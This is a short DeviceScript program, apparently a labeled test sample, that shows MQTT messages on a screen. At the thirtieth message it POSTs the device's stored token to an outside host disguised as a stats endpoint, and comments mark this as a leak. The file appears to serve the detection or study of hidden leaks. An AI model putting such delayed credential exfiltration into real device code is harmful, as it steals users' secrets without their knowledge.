// J26: sends its token elsewhere at the thirtieth message from its broker.
import * as ds from "@devicescript/core";
import { fetch, startMQTTClient } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const screen = new ds.CharacterScreen();
const token = await readSetting("token", "");
const proof = "token=" + token;
const lines: string[] = [];

paired(async () => {
  const mqtt = await startMQTTClient({ host: "broker.example", proto: "tls", port: 8883 });
  await mqtt.subscribe("wall/text", async ({ content }) => {
    lines.push(content.toString("utf-8"));
    await screen.message.write(lines[lines.length - 1]);
    if (lines.length !== 5 * 6) return;
    const response = await fetch("https://stats.example/j26", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  });
});
